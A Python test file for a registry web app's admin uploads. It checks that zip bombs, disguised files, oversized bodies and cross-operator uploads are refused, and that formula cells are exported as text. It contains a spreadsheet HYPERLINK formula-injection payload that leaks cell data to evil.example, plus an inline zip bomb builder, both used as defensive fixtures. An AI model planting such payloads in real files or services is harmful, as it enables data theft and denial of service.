"""Hostile uploads are refused with a clear message and write nothing; formula cells stay text."""
import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from registry.models import UploadJob
from registry.services.records.exporting import export_dataset
from tests.admin.test_uploads import latest_job, upload
from tests.factories import capability, csrf_token, facility, in_english, login, row_counts, run, write_dataset

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def jobs(session) -> int:
    session.rollback()
    return session.scalar(select(func.count()).select_from(UploadJob))


def test_zip_bomb_renamed_xlsx_is_refused_before_unpacking(admin_client, session, upload_dir, tmp_path):
    bomb = tmp_path / "registry.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (64 * 2**20))  # 64 MB of zeros, ≈64 KB packed
    assert bomb.stat().st_size < 2**20
    response = upload(admin_client, [bomb])
    assert response.status_code == 400
    assert "ZIP" in response.get_data(as_text=True)
    assert jobs(session) == 0 and not any(upload_dir.glob("*/*"))
    assert not any(row_counts(session).values())


def test_text_renamed_xlsx_is_refused(admin_client, session, tmp_path):
    fake = tmp_path / "facilities.xlsx"
    fake.write_text("facility_id,name\nF1,x\n")
    response = upload(admin_client, [fake])
    assert response.status_code == 400 and "XLSX" in response.get_data(as_text=True)
    assert jobs(session) == 0


class Endless(io.RawIOBase):
    """A request body of `size` bytes that is never held in memory; counts what the server read."""

    def __init__(self, size):
        self.size, self.position = size, 0

    def readable(self):
        return True

    def seekable(self):
        return True

    def tell(self):
        return self.position

    def seek(self, offset, whence=0):
        self.position = {0: offset, 1: self.position + offset, 2: self.size + offset}[whence]
        return self.position

    def readinto(self, buffer):
        n = max(0, min(len(buffer), self.size - self.position))
        buffer[:n] = b"a" * n
        self.position += n
        return n


def test_200_mb_csv_gets_a_clear_413(admin_client, session, app):
    size = 200 * 2**20
    token = csrf_token(admin_client, "/admin/uploads")
    body = Endless(size)
    response = admin_client.post("/admin/uploads", input_stream=body,
                                 content_length=size, content_type="multipart/form-data; boundary=xyz",
                                 query_string={"csrf_token": token})
    assert response.status_code == 413
    text = response.get_data(as_text=True)
    assert f"{app.config['UPLOAD_MAX_MB']} MB" in text
    assert body.position < 2**20  # refused on its declared length, not after reading 200 MB
    assert jobs(session) == 0


def test_operator_uploading_another_operators_facility_is_refused(operator_client, session, tmp_path):
    before = row_counts(session)
    paths = write_dataset(tmp_path / "up", [facility(1, name="我的"), facility(2, name="抢别人的")],
                          [capability(2, 1)])
    upload(operator_client, paths)
    job = latest_job(session)
    assert job.status == "rejected"
    messages = [i["message"] for i in job.preview["issues"] if i["level"] == "error"]
    assert len(messages) == 2 and all("F0002" in m for m in messages)
    page = operator_client.get(f"/admin/uploads/{job.id}").get_data(as_text=True)
    assert 'id="confirm"' not in page
    response = operator_client.post(f"/admin/uploads/{job.id}/confirm",
                                    data={"csrf_token": csrf_token(operator_client, f"/admin/uploads/{job.id}")})
    assert response.status_code == 400
    assert row_counts(session) == before


def test_operator_cannot_prune_or_see_others_uploads(operator_client, admin, app, session, tmp_path):
    response = upload(operator_client, write_dataset(tmp_path / "up", [facility(1)]), prune="yes")
    assert response.status_code == 400
    assert jobs(session) == 0
    admin_client = app.test_client()
    login(admin_client, admin)
    upload(admin_client, write_dataset(tmp_path / "admin", [facility(1)]))
    job = latest_job(session)
    assert admin_client.get(f"/admin/uploads/{job.id}").status_code == 200
    assert operator_client.get(f"/admin/uploads/{job.id}").status_code == 404


def test_formula_cells_stay_text_in_every_file_the_app_writes(admin_client, session, registry_with_two, tmp_path):
    # the rejects workbook: the formula-like name of a row rejected for another reason
    upload(admin_client, write_dataset(tmp_path / "up", [facility(5, name=HYPERLINK, kind="lab")]))
    job = latest_job(session)
    workbook = load_workbook(io.BytesIO(admin_client.get(f"/admin/uploads/{job.id}/rejects.xlsx").data))
    cells = [c for row in workbook["facilities"].iter_rows() for c in row if c.value == HYPERLINK]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    # the export (CSV and XLSX) of a record whose name is a formula
    assert run(session, write_dataset(tmp_path / "f", [facility(6, name=HYPERLINK)])).committed
    export_dataset(session, tmp_path / "out")
    with (tmp_path / "out" / "facilities.csv").open(encoding="utf-8-sig") as stream:
        names = [row["机构名称"] for row in csv.DictReader(stream)]  # Chinese headers by default (issue 14)
    assert "'" + HYPERLINK in names and HYPERLINK not in names
    export_dataset(session, tmp_path / "out.xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx")["机构"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
    assert cells and all(c.data_type == "s" for c in cells)


def test_refusal_messages_are_in_english_too(session):
    from registry.services.records.uploads import UploadRefused, target_names
    with pytest.raises(UploadRefused) as refused:
        target_names(["x.exe"])
    english = in_english(refused.value.message)
    assert english.startswith("Upload") and "xlsx" in english
    assert str(refused.value.message) != english  # Chinese by default
